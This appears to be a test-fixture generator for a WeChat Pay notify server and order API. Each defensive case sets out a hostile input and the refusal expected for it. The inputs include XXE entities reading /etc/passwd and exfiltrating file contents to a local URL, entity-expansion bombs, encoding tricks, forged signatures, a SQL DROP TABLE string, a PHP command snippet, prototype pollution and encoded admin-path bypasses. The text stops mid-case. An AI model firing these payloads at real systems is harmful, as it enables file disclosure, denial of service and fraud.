/**
 * The hostile-input corpus: every case as bytes plus what it attacks and how minipay must
 * answer. One builder serves both uses: scripts/gen-hostile-fixtures.ts writes the cases with
 * DEFAULT_HOSTILE_CONTEXT to test/fixtures/hostile/ (reproducible, fixed nonces), and a server
 * test can rebuild them for an order it has just created, so the signed-but-wrong cases point
 * at a real PENDING order.
 */
import { createCipheriv, createHash } from 'node:crypto';
import { DEMO_CREDENTIALS } from '../../src/sandbox/credentials.js';
import { encodeXml, type SignType, signV2, type XmlErrorCode } from '../../src/wechatpay/index.js';

export type HostileTarget = 'payment-notify' | 'refund-notify' | 'json-api';

/**
 * How minipay must answer, as a class. For notify endpoints every class is "FAIL (or 4xx),
 * nothing changes" except `not-a-payment` and `replay`, which WeChat must see acknowledged.
 */
export type HostileOutcome =
  /** The XML reader refuses it (`xmlError` says which code); nothing else runs. */
  | 'xml-refused'
  /** Readable, but the signature does not verify with the merchant key. */
  | 'signature-refused'
  /** Correctly signed, but for another appid / mch_id. */
  | 'merchant-refused'
  /** Correctly signed, but the amount or currency is not the order's (or not an amount). */
  | 'amount-refused'
  /** Correctly signed, for an order the merchant does not have. */
  | 'unknown-order'
  /** Correctly signed report of a failed payment: acknowledged, the order stays PENDING. */
  | 'not-a-payment'
  /** A genuine notify delivered again after the order is PAID: acknowledged, no second change. */
  | 'replay'
  /** A refund notify whose `req_info` cannot be decrypted or whose content is refused. */
  | 'refund-refused'
  /** A JSON API request refused with `status` and `{ error: { code } }`. */
  | 'json-refused';

export interface HostileCase {
  name: string;
  /** File name under test/fixtures/hostile/. */
  file: string;
  target: HostileTarget;
  /** What the case attacks, in one sentence. */
  attacks: string;
  expect: HostileOutcome;
  /** The `XmlError` code `decodeXml` must throw on the body (xml-refused). */
  xmlError?: XmlErrorCode;
  /** The `XmlError` code for the decrypted `req_info` of a refund notify. */
  innerXmlError?: XmlErrorCode;
  /** Request to send; notify targets default to POST text/xml on their path. */
  method?: 'GET' | 'POST' | 'PATCH';
  /** Path, `{placeholders}` filled in by the server test (json-api). */
  path?: string;
  contentType?: string;
  headers?: Record<string, string>;
  /** Needs a logged-in user's token (json-api). */
  auth?: boolean;
  /** Expected HTTP status (json-api), and `error.code` when it is fixed by docs/http-api.md. */
  status?: number;
  code?: string;
  body: Buffer;
}

/** The order and merchant a corpus is built for. */
export interface HostileContext {
  appId: string;
  mchId: string;
  mchKey: string;
  outTradeNo: string;
  totalFee: number;
  openid: string;
  transactionId: string;
  outRefundNo: string;
  refundId: string;
}

export const DEFAULT_HOSTILE_CONTEXT: Readonly<HostileContext> = Object.freeze({
  appId: DEMO_CREDENTIALS.appId,
  mchId: DEMO_CREDENTIALS.mchId,
  mchKey: DEMO_CREDENTIALS.mchKey,
  outTradeNo: 'MP20261122160000HOSTILE000000001',
  totalFee: 1200,
  openid: 'oHostileFixtureOpenid0000000001',
  transactionId: '4200000000202611220000000001',
  outRefundNo: 'RF20261122160000HOSTILE000000001',
  refundId: '50000000002026112200000000001',
});

/** A key that is not the merchant's: what a forger without the key would sign with. */
export const FORGER_KEY = 'forgedkeyforgedkeyforgedkey00001';
const NONCE = 'HostileFixtureNonce0000000000001';
const OTHER_APPID = 'wx00000000000000ff';
const OTHER_MCHID = '1900000999';
const SQL = "1'; DROP TABLE orders; --";

type Fields = Record<string, string | number>;

/** A genuine payment notify's fields for the context, without `sign`. */
export function genuineNotifyFields(ctx: HostileContext, change: Fields = {}): Fields {
  return {
    return_code: 'SUCCESS',
    return_msg: 'OK',
    appid: ctx.appId,
    mch_id: ctx.mchId,
    nonce_str: NONCE,
    result_code: 'SUCCESS',
    openid: ctx.openid,
    is_subscribe: 'N',
    trade_type: 'JSAPI',
    bank_type: 'OTHERS',
    total_fee: ctx.totalFee,
    fee_type: 'CNY',
    cash_fee: ctx.totalFee,
    transaction_id: ctx.transactionId,
    out_trade_no: ctx.outTradeNo,
    time_end: '20261122160005',
    ...change,
  };
}

/** Adds `sign` (MD5 unless told) computed with `key`. */
function sign(fields: Fields, key: string, type: SignType = 'MD5'): Fields {
  return { ...fields, sign: signV2(fields, key, type) };
}

/** Fields written as they are (the caller keeps values plain ASCII or already escaped). */
function rawXml(fields: Fields, root = 'xml'): string {
  let out = `<${root}>`;
  for (const [k, v] of Object.entries(fields)) out += `<${k}>${v}</${k}>`;
  return `${out}</${root}>`;
}

/** A signed genuine notify with `raw` spliced in before `</xml>` (markup the signer never saw). */
function withTail(ctx: HostileContext, tail: string): string {
  return rawXml(sign(genuineNotifyFields(ctx), ctx.mchKey)).replace('</xml>', `${tail}</xml>`);
}

/** APIv2 refund notify encryption: AES-256-ECB, key = lowercase hex MD5 of the API key. */
export function encryptReqInfo(plain: string, apiKey: string): string {
  const key = createHash('md5').update(apiKey, 'utf8').digest('hex');
  const cipher = createCipheriv('aes-256-ecb', Buffer.from(key, 'utf8'), null);
  return Buffer.concat([cipher.update(plain, 'utf8'), cipher.final()]).toString('base64');
}

function refundInfo(ctx: HostileContext, change: Fields = {}): Fields {
  return {
    transaction_id: ctx.transactionId,
    out_trade_no: ctx.outTradeNo,
    refund_id: ctx.refundId,
    out_refund_no: ctx.outRefundNo,
    total_fee: ctx.totalFee,
    settlement_total_fee: ctx.totalFee,
    refund_fee: ctx.totalFee,
    settlement_refund_fee: ctx.totalFee,
    refund_status: 'SUCCESS',
    success_time: '2026-11-22 16:10:00',
    refund_recv_accout: '支付用户零钱',
    refund_account: 'REFUND_SOURCE_RECHARGE_FUNDS',
    refund_request_source: 'API',
    ...change,
  };
}

function refundNotify(ctx: HostileContext, reqInfo: string, change: Fields = {}): string {
  return encodeXml({
    return_code: 'SUCCESS',
    appid: ctx.appId,
    mch_id: ctx.mchId,
    nonce_str: NONCE,
    req_info: reqInfo,
    ...change,
  });
}

type Spec = Omit<HostileCase, 'file' | 'body'> & { body: string | Buffer; ext?: string };

const xmlCase = (
  name: string,
  attacks: string,
  body: string | Buffer,
  xmlError: XmlErrorCode,
  ext = 'xml',
): Spec => ({
  name,
  target: 'payment-notify',
  attacks,
  expect: 'xml-refused',
  xmlError,
  body,
  ext,
});

const notifyCase = (name: string, attacks: string, expect: HostileOutcome, body: string): Spec => ({
  name,
  target: 'payment-notify',
  attacks,
  expect,
  body,
});

function xxeCases(ctx: HostileContext): Spec[] {
  const g = genuineNotifyFields(ctx);
  const signed = sign(g, ctx.mchKey);
  const withAttach = (entityRef: string) =>
    rawXml({ ...signed, attach: entityRef }).replace('<xml>', '');
  const doc = (doctype: string, ref = '&xxe;') =>
    `<?xml version="1.0"?>\n${doctype}\n<xml>${withAttach(ref)}`;
  const laughs = ['<!ENTITY lol "lol">'];
  for (let i = 1; i <= 9; i++) {
    const prev = i === 1 ? 'lol' : `lol${i - 1}`;
    laughs.push(`<!ENTITY lol${i} "${`&${prev};`.repeat(10)}">`);
  }
  const big = 'A'.repeat(9000);
  return [
    xmlCase(
      'xxe-system-file',
      'classic XXE: an external entity reading file:///etc/passwd into attach',
      doc('<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'),
      'FORBIDDEN_MARKUP',
    ),
    xmlCase(
      'xxe-lowercase-doctype',
      'XXE with <!doctype> in lower case (parsers that match only upper case miss it)',
      doc('<!doctype xml [<!entity xxe system "file:///etc/passwd">]>'),
      'FORBIDDEN_MARKUP',
    ),
    xmlCase(
      'xxe-mixedcase-doctype',
      'XXE with <!DoCtYpE> in mixed case',
      doc('<!DoCtYpE xml [<!EnTiTy xxe SyStEm "file:///etc/hostname">]>'),
      'FORBIDDEN_MARKUP',
    ),
    xmlCase(
      'xxe-out-of-band-http',
      'out-of-band XXE: an external entity fetching http://127.0.0.1:9/ (must never be fetched)',
      doc('<!DOCTYPE xml [<!ENTITY xxe SYSTEM "http://127.0.0.1:9/oob?leak=1">]>'),
      'FORBIDDEN_MARKUP',
    ),
    xmlCase(
      'xxe-public-external-dtd',
      'an external DTD by PUBLIC identifier and URL',
      doc(
        '<!DOCTYPE xml PUBLIC "-//EVIL//DTD X//EN" "http://127.0.0.1:9/evil.dtd">',
        ctx.outTradeNo,
      ),
      'FORBIDDEN_MARKUP',
    ),
    xmlCase(
      'xxe-system-external-dtd',
      'an external DTD by SYSTEM URL (fast-xml-parser accepts it silently)',
      doc('<!DOCTYPE xml SYSTEM "http://127.0.0.1:9/evil.dtd">', ctx.outTradeNo),
      'FORBIDDEN_MARKUP',
    ),
    xmlCase(
      'xxe-parameter-entity',
      'a parameter entity pulling in a remote DTD (%p;)',
      doc('<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://127.0.0.1:9/p.dtd"> %p;]>'),
      'FORBIDDEN_MARKUP',
    ),
    xmlCase(
      'xxe-parameter-entity-exfil',
      'the two-step parameter-entity exfiltration (file content into a URL)',
      doc(
        '<!DOCTYPE xml [<!ENTITY % file SYSTEM "file:///etc/passwd"><!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM \'http://127.0.0.1:9/?x=%file;\'>"> %eval; %exfil;]>',
      ),
      'FORBIDDEN_MARKUP',
    ),
    xmlCase(
      'billion-laughs',
      'billion laughs: 10 levels of nested entities (10^9 "lol")',
      doc(`<!DOCTYPE xml [${laughs.join('')}]>`, '&lol9;'),
      'FORBIDDEN_MARKUP',
    ),
    xmlCase(
      'quadratic-blowup',
      'quadratic blow-up: one 9,000-character entity referenced 200 times',
      doc(`<!DOCTYPE xml [<!ENTITY a "${big}">]>`, '&a;'.repeat(200)),
      'FORBIDDEN_MARKUP',
    ),
    xmlCase(
      'doctype-after-bom',
      'a UTF-8 BOM in front of a DOCTYPE (readers that check the first byte miss it)',
      Buffer.concat([
        Buffer.from([0xef, 0xbb, 0xbf]),
        Buffer.from(doc('<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')),
      ]),
      'FORBIDDEN_MARKUP',
    ),
    xmlCase(
      'doctype-without-declaration',
      'a DOCTYPE with no XML declaration before it',
      `<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml>${withAttach('&xxe;')}`,
      'FORBIDDEN_MARKUP',
    ),
    xmlCase(
      'entity-declared-inside-root',
      'an ENTITY declaration inside the root element',
      withTail(ctx, '<!ENTITY xxe SYSTEM "file:///etc/passwd">'),
      'FORBIDDEN_MARKUP',
    ),
    xmlCase(
      'undeclared-entity-reference',
      'an entity reference with no declaration (&xxe;), as if a DTD were loaded elsewhere',
      rawXml({ ...signed, attach: '&xxe;' }),
      'MALFORMED',
    ),
    xmlCase(
      'processing-instruction-stylesheet',
      'a processing instruction after the declaration (xml-stylesheet fetches a URL)',
      `<?xml version="1.0"?><?xml-stylesheet href="http://127.0.0.1:9/x.xsl"?>${rawXml(signed)}`,
      'FORBIDDEN_MARKUP',
    ),
    xmlCase(
      'processing-instruction-in-field',
      'a processing instruction inside a value',
      rawXml({ ...signed, attach: '<?php system("id"); ?>' }),
      'FORBIDDEN_MARKUP',
    ),
    xmlCase(
      'comment-hiding-doctype',
      'a comment hiding markup (<!-- <!DOCTYPE … --> before the root)',
      `<!-- <!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]> -->${rawXml(signed)}`,
      'FORBIDDEN_MARKUP',
    ),
    xmlCase(
      'comment-splitting-value',
      'a comment splitting a value so naive readers join 1<!-- -->00 into 100',
      rawXml({ ...signed, total_fee: `${ctx.totalFee}<!-- -->00` }),
      'FORBIDDEN_MARKUP',
    ),
    xmlCase(
      'encoding-utf7-declared',
      'UTF-7 declared, with the DOCTYPE spelled in UTF-7 (+ADw-!DOCTYPE)',
      `<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE xml +AFs-+ADw-!ENTITY xxe SYSTEM +ACI-file:///etc/passwd+ACI-+AD4-+AF0-+AD4-${rawXml(signed)}`,
      'NOT_UTF8',
    ),
    xmlCase(
      'encoding-utf16le-bom',
      'the whole notify in UTF-16LE with a byte-order mark',
      Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(rawXml(signed), 'utf16le')]),
      'NOT_UTF8',
      'bin',
    ),
    xmlCase(
      'encoding-utf16be-bom',
      'the whole notify in UTF-16BE with a byte-order mark',
      Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(rawXml(signed), 'utf16le').swap16()]),
      'NOT_UTF8',
      'bin',
    ),
    xmlCase(
      'encoding-utf16le-no-bom',
      'UTF-16LE without a BOM (every other byte NUL, valid UTF-8 byte by byte)',
      Buffer.from(rawXml(signed), 'utf16le'),
      'MALFORMED',
      'bin',
    ),
    xmlCase(
      'encoding-gbk-declared',
      'GBK declared with GBK bytes in attach (a reader that ignores the declaration misreads it)',
      Buffer.concat([
        Buffer.from('<?xml version="1.0" encoding="GBK"?>'),
        Buffer.from(rawXml(signed).replace('</xml>', '<attach>')),
        Buffer.from([0xd6, 0xa7, 0xb8, 0xb6]),
        Buffer.from('</attach></xml>'),
      ]),
      'NOT_UTF8',
      'bin',
    ),
    xmlCase(
      'invalid-utf8-bytes',
      'bytes that are not UTF-8 (0xC3 0x28) inside attach',
      Buffer.concat([
        Buffer.from(rawXml(signed).replace('</xml>', '<attach>')),
        Buffer.from([0xc3, 0x28]),
        Buffer.from('</attach></xml>'),
      ]),
      'NOT_UTF8',
      'bin',
    ),
    xmlCase(
      'overlong-utf8-lt',
      "an overlong UTF-8 '<' (0xC0 0xBC) that lenient decoders turn into markup",
      Buffer.concat([
        Buffer.from(rawXml(signed).replace('</xml>', '<attach>')),
        Buffer.from([0xc0, 0xbc]),
        Buffer.from('!DOCTYPE x></attach></xml>'),
      ]),
      'NOT_UTF8',
      'bin',
    ),
    xmlCase(
      'double-bom',
      'two byte-order marks (the second is text before the root)',
      Buffer.concat([
        Buffer.from([0xef, 0xbb, 0xbf, 0xef, 0xbb, 0xbf]),
        Buffer.from(rawXml(signed)),
      ]),
      'MALFORMED',
      'bin',
    ),
  ];
}

function shapeCases(ctx: HostileContext): Spec[] {
  const g = genuineNotifyFields(ctx);
  const signed = sign(g, ctx.mchKey);
  const full = rawXml(signed);
  const filler = 'A'.repeat(64 * 1024);
  const manyFields: Fields = { ...signed };
  for (let i = 0; i < 300; i++) manyFields[`f${i}`] = 'x';
  let deep = '';
  for (let i = 0; i < 10_000; i++) deep += '<a>';
  return [
    xmlCase(
      'oversized-64kib-plus-1',
      'a body one byte over the 64 KiB notify limit',
      (() => {
        const head = full.replace('</xml>', '<attach>');
        const tail = '</attach></xml>';
        return head + filler.slice(0, 64 * 1024 + 1 - head.length - tail.length) + tail;
      })(),
      'TOO_LARGE',
    ),
    xmlCase(
      'huge-attach',
      'a 20,000-character attach inside the size limit (WeChat allows 127)',
      rawXml({ ...signed, attach: 'A'.repeat(20_000) }),
      'VALUE_TOO_LONG',
    ),
    xmlCase(
      'too-many-fields',
      '300 extra fields (memory and hash-flooding pressure)',
      rawXml(manyFields),
      'TOO_MANY_FIELDS',
    ),
    xmlCase(
      'truncated-mid-field',
      'a notify cut off in the middle of a field',
      full.slice(0, Math.floor(full.length / 2)),
      'MALFORMED',
    ),
    xmlCase(
      'truncated-mid-cdata',
      'a notify cut off inside a CDATA section',
      encodeXml({ ...signed, attach: '支付测试 ]] still inside' }).replace(
        / still inside[\s\S]*$/,
        '',
      ),
      'MALFORMED',
    ),
    xmlCase(
      'unclosed-root',
      'the root element never closed',
      full.replace('</xml>', ''),
      'MALFORMED',
    ),
    xmlCase(
      'mismatched-close-tag',
      'a field closed by another name (<total_fee>1</cash_fee>)',
      full.replace(
        `<total_fee>${ctx.totalFee}</total_fee>`,
        `<total_fee>${ctx.totalFee}</cash_fee>`,
      ),
      'MALFORMED',
    ),
    xmlCase(
      'two-roots',
      'two root elements (some parsers return the last)',
      full + full,
      'MALFORMED',
    ),
    xmlCase(
      'wrong-root',
      'a signed message under <root> instead of <xml>',
      rawXml(signed, 'root'),
      'WRONG_ROOT',
    ),
    xmlCase('empty-body', 'an empty body', '', 'EMPTY'),
    xmlCase('whitespace-body', 'a body of whitespace only', ' \r\n\t ', 'EMPTY'),
    xmlCase(
      'not-xml',
      'plain text instead of XML',
      'return_code=SUCCESS&out_trade_no=1',
      'MALFORMED',
      'txt',
    ),
    xmlCase(
      'json-as-text-xml',
      'the notify as JSON (sent with Content-Type text/xml)',
      JSON.stringify(signed),
      'MALFORMED',
      'json',
    ),
    {
      ...xmlCase(
        'json-as-application-json',
        'the notify as JSON with Content-Type application/json',
        JSON.stringify(signed),
        'MALFORMED',
        'json',
      ),
      contentType: 'application/json',
    },
    xmlCase(
      'duplicate-total-fee',
      'total_fee twice: the signed amount first, a larger one second',
      withTail(ctx, `<total_fee>${ctx.totalFee * 100}</total_fee>`),
      'DUPLICATE_FIELD',
    ),
    xmlCase(
      'duplicate-sign',
      'sign twice (readers that take the last one verify the forged one)',
      withTail(ctx, '<sign>00000000000000000000000000000000</sign>'),
      'DUPLICATE_FIELD',
    ),
    xmlCase(
      'duplicate-out-trade-no',
      'out_trade_no twice: the signed order first, another order second',
      withTail(ctx, '<out_trade_no>MP20261122160000VICTIM0000000002</out_trade_no>'),
      'DUPLICATE_FIELD',
    ),
    xmlCase(
      'nested-element',
      'a nested element inside total_fee',
      full.replace(
        `<total_fee>${ctx.totalFee}</total_fee>`,
        `<total_fee><v>${ctx.totalFee}</v></total_fee>`,
      ),
      'MALFORMED',
    ),
    xmlCase(
      'deep-nesting',
      '10,000 nested elements (stack exhaustion)',
      `<xml>${deep}`,
      'MALFORMED',
    ),
    xmlCase(
      'attribute-on-field',
      'an attribute on a field (<total_fee currency="USD">)',
      full.replace('<total_fee>', '<total_fee currency="USD">'),
      'MALFORMED',
    ),
    xmlCase(
      'char-ref-nul',
      'a character reference to NUL (&#0;) inside out_trade_no',
      full.replace(`<out_trade_no>${ctx.outTradeNo}`, `<out_trade_no>${ctx.outTradeNo}&#0;`),
      'MALFORMED',
    ),
    xmlCase(
      'raw-control-character',
      'a raw control character (U+0001) inside a value',
      full.replace(`<out_trade_no>${ctx.outTradeNo}`, `<out_trade_no>${ctx.outTradeNo}\u0001`),
      'MALFORMED',
    ),
  ];
}

function signatureCases(ctx: HostileContext): Spec[] {
  const g = genuineNotifyFields(ctx);
  const good = signV2(g, ctx.mchKey);
  const xml = (sign?: string, fields: Fields = g) =>
    rawXml(sign === undefined ? fields : { ...fields, sign });
  const forged = (change: Fields) => {
    const f = genuineNotifyFields(ctx, change);
    return encodeXml({ ...f, sign: signV2(f, FORGER_KEY) });
  };
  const sig = (name: string, attacks: string, body: string) =>
    notifyCase(name, attacks, 'signature-refused', body);
  return [
    sig('sign-missing', 'no sign field at all', xml()),
    sig('sign-empty', 'an empty sign', xml('')),
    sig(
      'sign-lowercase',
      'the right signature in lower case (WeChat sends upper case)',
      xml(good.toLowerCase()),
    ),
    sig('sign-one-short', 'the right signature minus its last character', xml(good.slice(0, -1))),
    sig('sign-one-long', 'the right signature plus one character', xml(`${good}0`)),
    sig('sign-not-hex', 'a 32-character sign that is not hex', xml('Z'.repeat(32))),
    sig('sign-other-key', 'signed with a key that is not the merchant key', forged({})),
    sig(
      'sign-hmac-for-md5-order',
      'signed with HMAC-SHA256 under the right key but no sign_type, for an MD5 order',
      xml(signV2(g, ctx.mchKey, 'HMAC-SHA256')),
    ),
    sig(
      'tampered-total-fee',
      'a genuine notify with total_fee changed after signing',
      xml(good, { ...g, total_fee: ctx.totalFee + 100 }),
    ),
    sig(
      'tampered-out-trade-no',
      'a genuine notify moved to another order after signing',
      xml(good, { ...g, out_trade_no: 'MP20261122160000VICTIM0000000002' }),
    ),
    sig(
      'tampered-field-dropped',
      'a genuine notify with openid removed after signing',
      xml(good, Object.fromEntries(Object.entries(g).filter(([k]) => k !== 'openid'))),
    ),
    sig(
      'tampered-whitespace',
      'a genuine notify with a space added around total_fee (a trimming reader would accept it)',
      xml(good, { ...g, total_fee: ` ${ctx.totalFee}` }),
    ),
    sig('forged-sql-attach', 'SQL in attach under a forged signature', forged({ attach: SQL })),
    sig(
      'forged-proto-fields',
      '__proto__ and constructor fields (prototype pollution) under a forged signature',
      forged({ __proto__field: 'x' }).replace(
        '<__proto__field>x</__proto__field>',
        '<__proto__>{"polluted":1}</__proto__><constructor>x</constructor>',
      ),
    ),
    sig(
      'forged-doctype-in-cdata',
      'DOCTYPE text inside CDATA (data, not markup) under a forged signature',
      forged({ attach: '<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>&xxe;' }),
    ),
    sig(
      'forged-numeric-refs',
      '10,000 numeric character references (&#65;) in attach, forged signature',
      xml(signV2(g, FORGER_KEY), { ...g, attach: '&#65;'.repeat(10_000) }),
    ),
  ];
}

function businessCases(ctx: HostileContext): Spec[] {
  const signed = (expect: HostileOutcome, name: string, attacks: string, change: Fields) =>
    notifyCase(
      name,
      attacks,
      expect,
      encodeXml(sign(genuineNotifyFields(ctx, change), ctx.mchKey)),
    );
  const amount = (name: string, attacks: string, change: Fields) =>
    signed('amount-refused', name, attacks, change);
  return [
    signed('merchant-refused', 'wrong-appid', 'correctly signed, for another mini program', {
      appid: OTHER_APPID,
    }),
    signed('merchant-refused', 'wrong-mch-id', 'correctly signed, for another merchant number', {
      mch_id: OTHER_MCHID,
    }),
    amount('amount-plus-one', 'total_fee one fen above the order', {
      total_fee: ctx.totalFee + 1,
      cash_fee: ctx.totalFee + 1,
    }),
    amount('amount-minus-one', 'total_fee one fen below the order', {
      total_fee: ctx.totalFee - 1,
      cash_fee: ctx.totalFee - 1,
    }),
    amount('amount-zero', 'total_fee 0 (0元购)', { total_fee: 0, cash_fee: 0 }),
    amount('amount-negative', 'a negative total_fee', { total_fee: -ctx.totalFee }),
    amount('amount-float', 'total_fee as yuan with decimals (12.00)', {
      total_fee: `${ctx.totalFee / 100}.00`,
    }),
    amount('amount-exponent', 'total_fee in exponent form (1.2e3) that Number() accepts', {
      total_fee: `${ctx.totalFee / 1000}e3`,
    }),
    amount('amount-leading-zero', 'total_fee with a leading zero (01200) that Number() accepts', {
      total_fee: `0${ctx.totalFee}`,
    }),
    amount('amount-overflow', 'a total_fee beyond 2^63', { total_fee: '99999999999999999999999' }),
    amount('currency-usd', 'the right number in another currency (fee_type USD)', {
      fee_type: 'USD',
    }),
    signed('unknown-order', 'unknown-order', 'correctly signed, for an order that does not exist', {
      out_trade_no: 'MP20261122160000NOSUCHORDER00001',
    }),
    signed('unknown-order', 'unknown-order-sql', 'correctly signed, SQL in out_trade_no', {
      out_trade_no: SQL,
    }),
    signed('not-a-payment', 'result-code-fail', 'correctly signed report that the payment failed', {
      result_code: 'FAIL',
      err_code: 'PAYERROR',
      err_code_des: 'payment failed',
    }),
    signed('not-a-payment', 'return-code-fail', 'correctly signed return_code FAIL', {
      return_code: 'FAIL',
      return_msg: 'SYSTEMERROR',
    }),
    notifyCase(
      'replay-genuine',
      'a genuine notify delivered again after the order is PAID',
      'replay',
      encodeXml(sign(genuineNotifyFields(ctx), ctx.mchKey)),
    ),
    signed(
      'replay',
      'replay-new-transaction',
      'a second correctly signed notify for a PAID order with another transaction_id',
      {
        transaction_id: '4200000000202611229999999999',
        nonce_str: 'HostileFixtureNonce0000000000002',
      },
    ),
  ];
}

function refundCases(ctx: HostileContext): Spec[] {
  const ok = refundNotify(ctx, encryptReqInfo(rawXml(refundInfo(ctx), 'root'), ctx.mchKey));
  const refund = (
    name: string,
    attacks: string,
    body: string,
    extra: Partial<Spec> = {},
  ): Spec => ({
    name,
    target: 'refund-notify',
    attacks,
    expect: 'refund-refused',
    body,
    ...extra,
  });
  const ciphertext = Buffer.from(
    encryptReqInfo(rawXml(refundInfo(ctx), 'root'), ctx.mchKey),
    'base64',
  );
  return [
    refund(
      'refund-xxe-outer',
      'a DOCTYPE in the outer refund notify',
      `<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${ok}`,
      { expect: 'xml-refused', xmlError: 'FORBIDDEN_MARKUP' },
    ),
    refund(
      'refund-xxe-inner',
      'a DOCTYPE inside the encrypted req_info (encrypted with the right key)',
      refundNotify(
        ctx,
        encryptReqInfo(
          `<!DOCTYPE root [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${rawXml(refundInfo(ctx, { refund_recv_accout: '&xxe;' }), 'root')}`,
          ctx.mchKey,
        ),
      ),
      { innerXmlError: 'FORBIDDEN_MARKUP' },
    ),
    refund(
      'refund-req-info-not-base64',
      'req_info that is not base64',
      refundNotify(ctx, '!!not*base64!!'),
    ),
    refund(
      'refund-req-info-other-key',
      'req_info encrypted with a key that is not the merchant key',
      refundNotify(ctx, encryptReqInfo(rawXml(refundInfo(ctx), 'root'), FORGER_KEY)),
    ),
    refund(
      'refund-req-info-truncated',
      'req_info cut to a length that is not a whole AES block',
      refundNotify(ctx, ciphertext.subarray(0, ciphertext.length - 5).toString('base64')),
    ),
    refund(
      'refund-req-info-missing',
      'a refund notify without req_info',
      encodeXml({
        return_code: 'SUCCESS',
        appid: ctx.appId,
        mch_id: ctx.mchId,
        nonce_str: NONCE,
      }),
    ),
    refund(
      'refund-wrong-mch-id',
      'a correctly encrypted refund notify addressed to another merchant number',
      refundNotify(ctx, encryptReqInfo(rawXml(refundInfo(ctx), 'root'), ctx.mchKey), {
        mch_id: OTHER_MCHID,
      }),
      { expect: 'merchant-refused' },
    ),
    refund(
      'refund-amount-over-total',
      'a correctly encrypted refund of more than the order total',
      refundNotify(
        ctx,
        encryptReqInfo(
          rawXml(
            refundInfo(ctx, {
              refund_fee: ctx.totalFee * 10,
              settlement_refund_fee: ctx.totalFee * 10,
            }),
            'root',
          ),
          ctx.mchKey,
        ),
      ),
      { expect: 'amount-refused' },
    ),
    refund(
      'refund-unknown-order',
      'a correctly encrypted refund for an order that does not exist',
      refundNotify(
        ctx,
        encryptReqInfo(
          rawXml(refundInfo(ctx, { out_trade_no: 'MP20261122160000NOSUCHORDER00001' }), 'root'),
          ctx.mchKey,
        ),
      ),
      { expect: 'unknown-order' },
    ),
    refund('refund-json-body', 'a refund notify as JSON', JSON.stringify({ req_info: 'x' }), {
      expect: 'xml-refused',
      xmlError: 'MALFORMED',
      ext: 'json',
    }),
  ];
}

function jsonCases(): Spec[] {
  const order = (quantity: unknown, extra: Record<string, unknown> = {}) =>
    JSON.stringify({ items: [{ productId: '{productId}', quantity }], ...extra });
  const api = (
    name: string,
    attacks: string,
    body: string,
    status: number,
    code: string | undefined,
    extra: Partial<Spec> = {},
  ): Spec => ({
    name,
    target: 'json-api',
    attacks,
    expect: 'json-refused',
    method: 'POST',
    path: '/api/v1/orders',
    contentType: 'application/json',
    headers: { 'idempotency-key': `hostile-${name}` },
    auth: true,
    status,
    code,
    body,
    ext: 'json',
    ...extra,
  });
  const invalid = (name: string, attacks: string, body: string, extra: Partial<Spec> = {}) =>
    api(name, attacks, body, 400, 'VALIDATION_FAILED', extra);
  return [
    api(
      'xml-to-orders-api',
      'a WeChat-style XML body sent to the JSON orders API',
      '<xml><items>1</items></xml>',
      415,
      'UNSUPPORTED_MEDIA_TYPE',
      { contentType: 'application/xml', ext: 'xml' },
    ),
    invalid(
      'xml-labelled-json',
      'an XML body labelled application/json',
      '<xml><items>1</items></xml>',
      {
        ext: 'xml',
      },
    ),
    invalid('json-truncated', 'truncated JSON', '{"items":[{"productId":"{productId}","quan'),
    invalid('quantity-negative', 'a negative quantity (a refund disguised as an order)', order(-1)),
    invalid('quantity-zero', 'a zero quantity', order(0)),
    invalid('quantity-float', 'a fractional quantity', order(1.5)),
    invalid('quantity-overflow', 'a quantity beyond 2^53', order(1e20)),
    invalid('quantity-string', 'a quantity as a string', order('2')),
    invalid('quantity-over-limit', 'a quantity above 99', order(100)),
    invalid(
      'too-many-lines',
      '21 order lines (the limit is 20)',
      JSON.stringify({
        items: Array.from({ length: 21 }, () => ({ productId: '{productId}', quantity: 1 })),
      }),
    ),
    invalid('items-not-array', 'items as an object', JSON.stringify({ items: { productId: 'x' } })),
    invalid(
      'proto-pollution-body',
      'a __proto__ key in the order body',
      '{"items":[{"productId":"{productId}","quantity":1}],"__proto__":{"isAdmin":true}}',
    ),
    api(
      'attach-huge',
      'a 100,000-character attach (over the 16 KiB body limit before any validation)',
      order(1, { attach: 'A'.repeat(100_000) }),
      413,
      'PAYLOAD_TOO_LARGE',
    ),
    invalid(
      'attach-over-wechat-limit',
      "a 128-byte attach (WeChat's attach holds 127)",
      order(1, { attach: 'A'.repeat(128) }),
    ),
    invalid('attach-nul', 'a NUL character in attach', order(1, { attach: 'table\u00004' })),
    invalid('attach-newline', 'a line break in attach', order(1, { attach: 'table\r\n4' })),
    invalid(
      'attach-padded',
      'attach with leading and trailing spaces',
      order(1, { attach: ' t4 ' }),
    ),
    invalid('attach-empty', 'an empty attach', order(1, { attach: '' })),
    invalid(
      'attach-lone-surrogate',
      'a lone UTF-16 surrogate in attach (no UTF-8 for it)',
      order(1).replace('}]', '}],"attach":"t\\ud800"'),
    ),
    invalid(
      'attach-chinese-over-bytes',
      'a 43-character Chinese attach: 129 bytes of UTF-8, over 127 though under 127 characters',
      order(1, { attach: '桌'.repeat(43) }),
    ),
    api(
      'admin-percent-encoded-patch',
      'a product price changed through /%61dmin/v1/... without a token (the router decodes it)',
      JSON.stringify({ priceFen: 1 }),
      401,
      'UNAUTHORIZED',
      { method: 'PATCH', path: '/%61dmin/v1/products/{productId}', auth: false, headers: {} },
    ),
    api(
      'admin-percent-encoded-create',
      'a product created through /admin/v1 spelled with %-encoded letters, no token',
      JSON.stringify({ id: 'prd_hostile', name: 'x', priceFen: 1 }),
      401,
      'UNAUTHORIZED',
      { path: '/%61%64%6D%69%6E/%761/products', auth: false, headers: {} },
    ),
    api(
      'admin-session-encoded-version',
      'the admin session read through /admin/%761/session, no token',
      '',
      401,
